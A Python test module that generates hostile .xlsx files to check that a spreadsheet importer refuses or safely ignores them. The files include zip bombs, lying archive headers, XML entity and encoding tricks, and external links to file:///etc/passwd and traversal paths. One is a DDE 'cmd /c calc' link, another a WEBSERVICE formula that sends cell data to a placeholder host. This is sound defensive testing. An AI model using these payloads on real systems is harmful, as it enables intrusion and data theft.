"""Hostile packages: directories that lie, parts that grow, share their bytes or lead elsewhere, and what else a workbook may carry."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from random import Random

from support.hostile import (
    _MAIN,
    _OFFICE,
    _PACKAGE,
    _SHEET,
    EITHER,
    HONEST,
    REFUSED,
    RIGHT,
    SAME,
    _cell,
    _kind,
    _parts,
    _rows,
    _sheet,
    _zip,
    honest,
)

_STRINGS, _STYLES = "xl/sharedStrings.xml", "xl/styles.xml"


def _related(parts: dict[str, bytes], name: str, content: str | bytes, kind: str) -> dict[str, bytes]:
    """The parts with one more that the workbook leads to."""
    link = f'<Relationship Id="rId7" Type="{_OFFICE}/{kind}" Target="{name.removeprefix("xl/")}"/></Relationships>'
    where = "xl/_rels/workbook.xml.rels"
    more = parts[where].replace(b"</Relationships>", link.encode())
    return parts | {where: more, name: content.encode() if isinstance(content, str) else content}


def _entries(content: bytes) -> list[int]:
    """Where the directory's entries stand."""
    found, at = [], content.find(b"PK\x01\x02")
    while at >= 0:
        found.append(at)
        at = content.find(b"PK\x01\x02", at + 4)
    return found


@_kind
def shared_bytes(chance: Random) -> tuple[str, bytes, str]:
    """Parts that share the bytes of one, so that few bytes unpack to many; or that reach into each other."""
    content = bytearray(_zip(_parts(_sheet(_rows())) | {f"xl/media/{n}.png": b"x" * 50_000 for n in range(200)}))
    entries = _entries(bytes(content))
    if chance.random() < 0.5:
        first = content[entries[-1] + 42 : entries[-1] + 46]
        for at in entries[6:]:
            content[at + 42 : at + 46] = first
    else:
        [size] = struct.unpack_from("<I", content, entries[-2] + 20)
        struct.pack_into("<I", content, entries[-2] + 20, size + chance.choice([20, 50, 90]))
    return "shared.xlsx", bytes(content), REFUSED


@_kind
def many_parts(chance: Random) -> tuple[str, bytes, str]:
    """Thousands of parts."""
    count = chance.choice([2_000, 12_000])
    parts = _parts(_sheet(_rows())) | {f"xl/media/{n}.png": b"" for n in range(count)}
    return "many.xlsx", _zip(parts), SAME if count < 10_000 else REFUSED


@_kind
def packages_within(chance: Random) -> tuple[str, bytes, str]:
    """Packages within packages, which nobody unpacks."""
    inner = b"0" * 5_000_000
    for _ in range(chance.randrange(1, 6)):
        inner = _zip({"0.zip": inner} | {f"{n}.zip": inner[:1000] for n in range(1, 10)})
    return "nested.xlsx", _zip(_parts(_sheet(_rows())) | {"xl/embeddings/0.zip": inner}), SAME


def _lying_part(told: bytes, real: bytes, *, wide: bool) -> bytes:
    """A workbook whose sheet is said to unpack to `told`, with its length and checksum, and unpacks to `real`."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, part in (_parts("") | {_SHEET: real}).items():
            with package.open(name, "w", force_zip64=wide) as into:
                into.write(part)
    content = bytearray(out.getvalue())
    for sign, length, checksum in ((b"PK\x01\x02", 24, 16), (b"PK\x03\x04", 22, 14)):
        at = content.find(_SHEET.encode())
        while content[at - (46 if sign == b"PK\x01\x02" else 30) :][:4] != sign:
            at = content.find(_SHEET.encode(), at + 1)
        at -= 46 if sign == b"PK\x01\x02" else 30
        struct.pack_into("<I", content, at + length, len(told))
        struct.pack_into("<I", content, at + checksum, zlib.crc32(told))
    return bytes(content)


@_kind
def lying_length(chance: Random) -> tuple[str, bytes, str]:
    """A part that goes on behind its end: who looks at it sees the beginning only, who reads it all of it."""
    told = _sheet(_rows()).encode()
    more = chance.choice([
        b" " * (40 << 20), _sheet(_rows(f'<row r="9">{_cell("A9", "12025550199")}</row>')).encode(), b"<row/>" * 4_000_000,
    ])  # fmt: skip
    return "length.xlsx", _lying_part(told, told + more, wide=chance.random() < 0.5), REFUSED


@_kind
def two_directories(chance: Random) -> tuple[str, bytes, str]:
    """A package behind a package, or within its comment: one reader takes this one, the next that one."""
    other = _zip(_parts(_sheet(_rows().replace(HONEST[0], "12025550199"))))
    choice = chance.randrange(3)
    if choice == 0:
        return "two.xlsx", honest() + other, REFUSED
    if choice == 1:
        return "two.xlsx", honest()[:-2] + struct.pack("<H", len(other)) + other, REFUSED
    return "two.xlsx", honest() + chance.choice([b"\0", b"\0" * 70_000, b"PK\x05\x06", b"more"]), EITHER


@_kind
def entities_in_other_parts(chance: Random) -> tuple[str, bytes, str]:
    """Entities in the shared texts or the styles, some in another encoding."""
    name, kind = chance.choice([(_STRINGS, "sharedStrings"), (_STYLES, "styles")])
    root = "sst" if name == _STRINGS else "styleSheet"
    xml = f'<!DOCTYPE {root} [<!ENTITY a "12025550199">]><{root} xmlns="{_MAIN}"><si><t>&a;</t></si></{root}>'
    encoding = chance.choice(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
    content = f"<?xml version='1.0' encoding='{encoding.removesuffix('-sig')}'?>{xml}".encode(encoding)
    data = _rows('<row r="9"><c r="A9" t="s"><v>0</v></c></row>')
    return "entities.xlsx", _zip(_related(_parts(_sheet(data)), name, content, kind)), REFUSED


@_kind
def declared_encoding(chance: Random) -> tuple[str, bytes, str]:
    """XML that says it is in an encoding in which its letters are others."""
    said = chance.choice(["UTF-7", "cp037", "utf-16", "shift_jis", "windows-1252", "x-none", "ISO-8859-1"])
    xml = _sheet(_rows(), before=f'<?xml version="1.0" encoding="{said}"?>')
    if said == "UTF-7":
        xml = xml.replace("?>", "?>+ADwAIQ-DOCTYPE a [+ADwAIQ-ENTITY b 'c'+AD4-]+AD4-", 1)
    if said == "cp037":
        return "declared.xlsx", _zip(_parts("") | {_SHEET: xml.encode("cp037")}), REFUSED
    return "declared.xlsx", _zip(_parts(xml)), RIGHT


@_kind
def very_many(chance: Random) -> tuple[str, bytes, str]:
    """Shared texts, styles, merged cells, links, names: very many of one of them, beside honest orders."""
    count = chance.choice([1_000, 100_000, 300_000, 1_000_000])
    parts = _parts(_sheet(_rows()))
    close = "</worksheet>"
    match chance.randrange(5):
        case 0:
            table = f'<sst xmlns="{_MAIN}">' + "<si><t>x</t></si>" * count + "</sst>"
            return "many.xlsx", _zip(_related(parts, _STRINGS, table, "sharedStrings")), RIGHT
        case 1:
            table = f'<styleSheet xmlns="{_MAIN}"><cellXfs>' + '<xf numFmtId="1"/>' * count + "</cellXfs></styleSheet>"
            return "many.xlsx", _zip(_related(parts, _STYLES, table, "styles")), RIGHT
        case 2:
            merged = "".join(f'<mergeCell ref="D{n}:E{n}"/>' for n in range(1, min(count, 100_000)))
            more = f"<mergeCells>{merged}</mergeCells>"
        case 3:
            links = "".join(f'<hyperlink ref="B{n}" r:id="rId{n}"/>' for n in range(1, count))
            more = f'<hyperlinks xmlns:r="{_OFFICE}">{links}</hyperlinks>'
        case _:
            names = '<definedName name="n">Orders!$A$1</definedName>' * count
            book = parts["xl/workbook.xml"].replace(
                b"</workbook>", f"<definedNames>{names}</definedNames></workbook>".encode()
            )
            return "many.xlsx", _zip(parts | {"xl/workbook.xml": book}), RIGHT
    return "many.xlsx", _zip(_parts(_sheet(_rows()).replace(close, more + close))), RIGHT


@_kind
def leading_out(chance: Random) -> tuple[str, bytes, str]:
    """Links, pictures, data, templates that lie elsewhere, macros, objects, exchanges with other programs: none is followed."""
    target = chance.choice([
        "http://127.0.0.1:9/x", "https://collect.invalid/", "file:///etc/passwd", "\\\\host.invalid\\share\\x.xlsx", "ftp://127.0.0.1/",
        "//host.invalid/share", "/dev/zero", "../../../../../etc/passwd",
    ])  # fmt: skip
    kind = chance.choice(
        ["externalLink", "image", "hyperlink", "attachedTemplate", "oleObject", "connections", "customXml"]
    )
    parts = _parts(_sheet(_rows()))
    link = f'<Relationship Id="rId8" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    for where in ("xl/_rels/workbook.xml.rels", "_rels/.rels"):
        parts[where] = parts[where].replace(b"</Relationships>", link.encode())
    parts["xl/worksheets/_rels/sheet1.xml.rels"] = f'<Relationships xmlns="{_PACKAGE}">{link}'.encode()
    parts["xl/vbaProject.bin"] = chance.randbytes(5000)
    parts["xl/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + chance.randbytes(5000)
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{_MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'.encode()
    )
    return chance.choice(["out.xlsx", "out.xlsm"]), _zip(parts), SAME


@_kind
def formulas_beside(chance: Random) -> tuple[str, bytes, str]:
    """Formulas that ask other programs and servers, in a column of the user's own."""
    text = chance.choice([
        "cmd|'/c calc'!A0", 'WEBSERVICE("http://127.0.0.1:9/"&amp;A2)', "'\\\\host\\[x.xlsx]S'!A1", 'HYPERLINK("http://127.0.0.1:9")', "NOW()",
    ])  # fmt: skip
    cell = f'<c r="C2" t="str"><f>{text}</f><v>12025550199</v></c>'
    data = _rows().replace('<row r="1">', '<row r="1">', 1)
    place = data.index("</row>", data.index('<row r="2">'))
    return "formulas.xlsx", _zip(_parts(_sheet(data[:place] + cell + data[place:]))), RIGHT


@_kind
def another_programs(chance: Random) -> tuple[str, bytes, str]:
    """Files of other programs: archives, documents, a spreadsheet of 2003 as XML, Apple's."""
    match chance.randrange(8):
        case 0:
            content = b"7z\xbc\xaf\x27\x1c\0\4" + chance.randbytes(500)
        case 1:
            content = b"Rar!\x1a\x07\x01\0" + chance.randbytes(500)
        case 2:
            content = b"\x1f\x8b\x08\0\0\0\0\0\0\3" + zlib.compress(honest())[2:-4]
        case 3:
            content = (
                b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook><Worksheet><Table><Row><Cell><Data>Number'
                b"</Data></Cell></Row></Table></Worksheet></Workbook>"
            )
        case 4:
            content = _zip({"Index/Document.iwa": chance.randbytes(900), "Metadata/Properties.plist": b"bplist00"})
        case 5:
            content = _zip({"word/document.xml": b"<document/>", "[Content_Types].xml": b"<Types/>"})
        case 6:
            content = b"BZh91AY&SY" + chance.randbytes(500)
        case _:
            content = b"\xfd7zXZ\0" + chance.randbytes(500)
    return f"other{chance.choice(['.xlsx', '.xls', '.ods', '.xlsb', '.csv'])}", content, REFUSED


@_kind
def rows_in_disorder(chance: Random) -> tuple[str, bytes, str]:
    """Rows and cells in another order than theirs, as some programs write them; each place once."""
    rows = _rows().replace("<row", "\n<row").split("\n")[1:]
    chance.shuffle(rows)
    return "disorder.xlsx", _zip(_parts(_sheet("".join(rows)))), RIGHT


@_kind
def deep_elsewhere(chance: Random) -> tuple[str, bytes, str]:
    """Elements within elements in the shared texts or the styles."""
    name, kind, root = chance.choice([(_STRINGS, "sharedStrings", "sst"), (_STYLES, "styles", "styleSheet")])
    depth = chance.choice([10_000, 300_000])
    xml = f'<{root} xmlns="{_MAIN}">' + "<r>" * depth + "</r>" * depth + f"</{root}>"
    return "deep.xlsx", _zip(_related(_parts(_sheet(_rows())), name, xml, kind)), RIGHT


@_kind
def padded(chance: Random) -> tuple[str, bytes, str]:
    """A file that is large by what nobody reads, and so might be given memory for a sheet that is huge and empty."""
    filler = {"xl/media/image1.png": chance.randbytes(chance.choice([1, 12]) << 20)}
    data = _rows(f'<row r="1048576">{_cell(chance.choice(["P", "AZ", "XFD"]) + "1048576", "x")}</row>')
    return "padded.xlsx", _zip(_parts(_sheet(data)) | filler), REFUSED
